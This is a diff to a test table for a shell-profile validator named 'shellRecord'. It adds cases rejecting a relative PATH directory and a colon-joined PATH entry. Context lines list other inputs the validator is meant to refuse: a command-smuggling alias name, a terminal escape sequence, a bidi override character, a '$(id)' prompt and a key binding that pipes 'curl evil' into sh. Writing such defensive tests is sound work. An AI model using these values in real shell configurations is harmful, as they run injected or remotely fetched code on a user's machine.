@@ -81,6 +81,16 @@ describe('shellRecord', () => {
     ['an alias whose name is code', { ...profile, aliases: { 'x;y': 'ls' } }, 'aliases.x;y'],
     ['an escape sequence in an alias', { ...profile, aliases: { x: 'echo \u001b[2J' } }, 'aliases.x'],
     ['code that reads otherwise than it runs', { ...profile, functions: { f: 'a \u202e b' } }, 'functions.f'],
+    [
+      'a directory that depends on where the person is',
+      { ...profile, pathEntries: [{ directory: 'bin', placement: 'before' }] },
+      'pathEntries.0.directory',
+    ],
+    [
+      'two directories as one',
+      { ...profile, pathEntries: [{ directory: '/opt/bin:/tmp', placement: 'before' }] },
+      'pathEntries.0.directory',
+    ],
     ['a prompt string, which a shell would expand', { ...profile, prompt: '$(id) ' }, 'prompt'],
     ['a key that runs a command', { ...profile, keyBindings: { 'ctrl-r': 'curl evil | sh' } }, 'keyBindings.ctrl-r'],
     ['a plain key bound to an action', { ...profile, keyBindings: { a: 'kill_line' } }, 'keyBindings.a'],
